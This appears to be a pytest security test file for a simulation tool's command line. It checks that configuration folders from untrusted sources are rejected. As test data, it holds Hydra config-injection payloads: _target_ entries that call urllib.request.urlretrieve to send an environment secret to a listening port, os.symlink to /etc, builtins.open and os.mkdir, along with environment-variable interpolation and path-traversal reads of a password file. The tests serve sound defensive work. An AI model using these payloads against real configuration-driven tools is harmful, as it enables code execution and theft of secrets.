"""A config folder of a stranger says what a configuration can say: nothing in it runs, writes, reads out or calls.

Every attempt was tried on what it attacks: without the list of ``configuration.user_folder`` each of them leaves its
mark, calls the listening port, or is at least taken.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from dataclasses import fields
from pathlib import Path

import pytest

from experiments.cli.main import main
from experiments.configuration.primary import schema_of
from experiments.configuration.user_folder import EXECUTOR_KEYS, ON_THE_COMMAND_LINE, SECTIONS
from petition_pyramid import scenario
from sim.errors import InputError
from tests.bad_input.case import found_in
from tests.experiments.conftest import SHORT

COMMANDS = (
    "simulate", "compare", "sweep", "sensitivity", "levers-at-work", "bottlenecks", "attribution", "calibrate",
    "optimise", "robustness", "counterfactual", "patterns", "index", "whatif", "verify",
)  # fmt: skip

GLOBAL = "# @package _global_\n"

INSTANTIATED = (
    "hydra: {{mode: MULTIRUN, sweeper: {{params: "
    "{{x: {{_target_: urllib.request.urlretrieve, url: '{url}?${{oc.env:SECRET}}', filename: '{mark}'}}}}}}}}\n"
)
ATTEMPTS = {
    "a call below the stored multirun": (INSTANTIATED, "hydra.sweeper.params.x"),
    "a link": (
        "hydra: {{mode: MULTIRUN, sweeper: {{params: {{x: {{_target_: os.symlink, src: /etc, dst: '{mark}'}}}}}}}}\n",
        "hydra.sweeper.params.x",
    ),
    "the environment in a stored multirun": (
        "hydra: {{mode: MULTIRUN, sweeper: {{params: {{after: '${{oc.env:SECRET}}'}}}}}}\n",
        "hydra.sweeper.params.after",
    ),
    "a scheduler in a stored multirun": (
        "hydra: {{mode: MULTIRUN, sweeper: {{params: {{executor.address: 'tcp://{address}'}}}}}}\n",
        "executor.address",
    ),
    "results in a stored multirun": (
        "hydra: {{mode: MULTIRUN, sweeper: {{params: {{results: '{mark}'}}}}}}\n",
        "results={mark}",
    ),
    "a name that is no key": (
        "hydra: {{mode: MULTIRUN, sweeper: {{params: {{'policy@hydra.callbacks': evil}}}}}}\n",
        "hydra.sweeper.params.policy@hydra.callbacks",
    ),
    "a callback": (
        "hydra: {{callbacks: {{x: {{_target_: builtins.open, file: '{mark}', mode: w}}}}}}\n",
        "hydra.callbacks.x",
    ),
    "a launcher": ("hydra: {{launcher: {{_target_: os.mkdir, path: '{mark}'}}}}\n", "hydra.launcher._target_"),
    "a search path": ("hydra: {{searchpath: ['file://{mark}']}}\n", "hydra.searchpath"),
    "a scheduler": ("executor: {{kind: dask, address: 'tcp://{address}'}}\n", "executor.address=tcp://"),
    "results elsewhere": ("results: '{mark}'\n", "results={mark}"),
    "data elsewhere": ("export: '{mark}'\n", "export={mark}"),
    "a port": ("port: 80\n", "port=80"),
    "the environment": ("ensemble: '${{oc.env:SECRET}}'\n", "ensemble=${{oc.env:SECRET}}"),
    "the environment in a defaults list": ("defaults: [{{/study: '${{oc.env:SECRET}}'}}]\n", "defaults: "),
    "settings of Hydra in a defaults list": ("defaults: [{{override /hydra/launcher: basic}}]\n", "defaults: "),
    "a policy as a callback": ("defaults: [{{/policy@hydra.callbacks.x: whistle}}]\n", "defaults: "),
}
"""What a file may try, and what of it the message names."""

WAYS = {
    "study": ("study=x", {"study/x.yaml": GLOBAL + "{content}"}),
    "stress": ("stress=x", {"stress/x.yaml": GLOBAL + "{content}"}),
    "province": ("province=x", {"province/x.yaml": GLOBAL + "{content}"}),
    "executor": ("executor=x", {"executor/x.yaml": GLOBAL + "{content}"}),
    "a study that a study reads": (
        "study=x",
        {"study/x.yaml": GLOBAL + "defaults: [y]\n", "study/y.yaml": GLOBAL + "{content}"},
    ),
    "a behaviour that a study reads": (
        "study=x",
        {"study/x.yaml": GLOBAL + "defaults: [{{/behaviour: y}}]\n", "behaviour/y.yaml": GLOBAL + "{content}"},
    ),
}
"""How a file is reached: what is typed, and the files."""

ROOM = {
    "a file outside of the groups": (
        ("after=x",),
        {"policy/x.yaml": "defaults: ['/evil@_global_']\n", "evil.yaml": INSTANTIATED},
        "defaults: /evil@_global_",
    ),
    "a file of a policy for everything": (
        ("after=x",),
        {"policy/x.yaml": "defaults: ['y@_global_']\n", "policy/y.yaml": INSTANTIATED},
        "defaults: y@_global_",
    ),
    "a package of Hydra": (
        ("study=x",),
        {"study/x.yaml": "# @package hydra.sweeper.params\nx: {{_target_: os.mkdir, path: '{mark}'}}\n"},
        "# @package hydra.sweeper.params",
    ),
    "a folder above": (
        ("after=x",),
        {"policy/x.yaml": "defaults: [../../evil/y]\n", "../evil/y.yaml": "centre: {{}}\n"},
        "defaults: ../../evil/y",
    ),
    "a scheduler in an executor's own file": (
        ("executor=x",),
        {"executor/x.yaml": "kind: dask\naddress: tcp://{address}\n"},
        "executor.address=tcp://",
    ),
}
"""Attempts that need files of their own: what is typed, the files, what the message names."""


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A port of this machine that counts who calls."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


class Scene:
    """A folder with files of a stranger, a mark that nobody may make, and a port that nobody may call."""

    def __init__(self, here: Path, listener: socket.socket) -> None:
        self.here, self.listener = here, listener
        address = "{}:{}".format(*listener.getsockname())
        self.values = {"mark": str(here / "mark"), "address": address, "url": f"http://{address}/"}

    def lay_out(self, files: dict[str, str]) -> None:
        """Writes files of the config folder; a study is one of the command that is tried."""
        for name, content in files.items():
            file = self.here / "own" / name
            file.parent.mkdir(parents=True, exist_ok=True)
            kind = "kind: simulate\n" if name.startswith("study/") else ""
            file.write_text(content.format(**self.values) + kind)

    def check(self, arguments: tuple[str, ...], says: str, capsys: pytest.CaptureFixture[str]) -> None:
        """The command is refused with one line that names the attempt; nothing is new, nobody called."""
        before = found_in(self.here)
        assert main(arguments) == 2
        err = capsys.readouterr().err
        assert says.format(**self.values) in err and "own/" in err
        assert err.count("\n") == 1 and "TOP-SECRET" not in err
        assert found_in(self.here) == before
        with pytest.raises(BlockingIOError):
            self.listener.accept()


@pytest.fixture
def scene(tmp_path: Path, listener: socket.socket, monkeypatch: pytest.MonkeyPatch) -> Scene:
    """The scene of an attempt; the environment has a secret."""
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    monkeypatch.setenv("SECRET", "TOP-SECRET")
    return Scene(tmp_path / "here", listener)


SOME = ("a call below the stored multirun", "a scheduler", "results elsewhere", "the environment in a defaults list")
"""Attempts that every command meets; the list is one for all, and ``simulate`` meets every attempt below."""


@pytest.mark.parametrize("attempt", SOME)
@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_is_misled(command: str, attempt: str, scene: Scene, capsys: pytest.CaptureFixture[str]):
    content, says = ATTEMPTS[attempt]
    group = "executor" if command == "verify" else "behaviour"
    scene.lay_out({f"{group}/x.yaml": GLOBAL + content})
    scene.check((command, "--config-dir", "own", f"{group}=x"), says, capsys)


@pytest.mark.parametrize("attempt", ATTEMPTS)
@pytest.mark.parametrize("way", WAYS)
def test_no_way_leads_around(way: str, attempt: str, scene: Scene, capsys: pytest.CaptureFixture[str]):
    content, says = ATTEMPTS[attempt]
    typed, files = WAYS[way]
    if "{content}" in files.get("study/x.yaml", "") or "defaults" not in content:
        scene.lay_out({name: text.replace("{content}", content) for name, text in files.items()})
        scene.check(("simulate", typed, "-cd", "own"), says, capsys)


@pytest.mark.parametrize("attempt", ROOM)
@pytest.mark.parametrize("flags", [(), ("-m",), ("--cfg", "job")], ids=["run", "multirun", "cfg"])
def test_no_file_reaches_further(
    attempt: str, flags: tuple[str, ...], scene: Scene, capsys: pytest.CaptureFixture[str]
):
    typed, files, says = ROOM[attempt]
    scene.lay_out(files)
    scene.check(("simulate", *flags, *typed, "--config-dir=own"), says, capsys)


def test_a_harmless_study_beside_hostile_ones_still_runs(scene: Scene, capsys: pytest.CaptureFixture[str]):
    content = ATTEMPTS["a call below the stored multirun"][0]
    files = {f"{group}/x.yaml": GLOBAL + content for group in ("study", "policy", "behaviour", "stress", "hydra")}
    scene.lay_out({**files, "evil.yaml": content, "schema/simulate.yaml": content})
    scene.lay_out({"study/good.yaml": GLOBAL + "calendar: {{end: '2018-12-31'}}\nreplicates: 1\n"})
    world = [word for word in SHORT if "calendar.end" not in word]
    assert main(["simulate", *world, "--config-dir", "own", "study=good"]) == 0
    assert "durable settlement per grievance" in capsys.readouterr().out
    with pytest.raises(BlockingIOError):
        scene.listener.accept()
    assert not (scene.here / "mark").exists()


def test_a_file_never_takes_the_place_of_a_shipped_one(scene: Scene):
    scene.lay_out({"behaviour/default.yaml": "patience: 5\n", "executor/threads.yaml": "kind: dask\n"})
    assert scenario("province=tiny", config_directory="own") == scenario("province=tiny")


def test_python_is_as_careful_as_the_command(scene: Scene):
    scene.lay_out({"policy/x.yaml": "defaults: ['/evil@_global_']\n", "evil.yaml": INSTANTIATED})
    with pytest.raises(InputError, match="/evil@_global_ is not allowed"):
        scenario("province=tiny", "after=x", config_directory="own")


@pytest.mark.parametrize(
    ("group", "text"),
    [
        ("policy", "places: {secret}\n"),
        ("policy", "places: ../../secret.csv\n"),
        ("policy", "places: ${{oc.env:SECRET}}\n"),
        ("study", "# @package _global_\nkind: simulate\nbefore: {{places: {secret}}}\n"),
        (
            "study",
            "# @package _global_\nkind: simulate\n"
            "hydra: {{mode: MULTIRUN, sweeper: {{params: {{before.places: {secret}}}}}}}\n",
        ),
    ],
)
def test_no_file_names_a_table_outside_its_folder(
    group: str, text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    secret = tmp_path / "secret.csv"
    secret.write_text("name,password\nroot,hidden\n", "utf-8")
    (tmp_path / "options" / group).mkdir(parents=True)
    (tmp_path / "options" / group / "x.yaml").write_text(text.format(secret=secret), "utf-8")
    chosen = "after=x" if group == "policy" else "study=x"
    assert main(["simulate", f"--config-dir={tmp_path / 'options'}", chosen]) == 2
    said = capsys.readouterr().err
    assert "is not allowed" in said and "password" not in said and "hidden" not in said


def test_every_key_of_every_command_is_for_files_or_for_the_command_line():
    """A new key has to be put on one of the lists."""
    keys = {part.name for name in COMMANDS for part in fields(schema_of(name))}
    assert keys == {*SECTIONS, "executor", *(key for key in ON_THE_COMMAND_LINE if "." not in key)}
    executor = {part.name for part in fields(schema_of("verify").__dataclass_fields__["executor"].default_factory)}
    assert executor == {*EXECUTOR_KEYS, "address"}
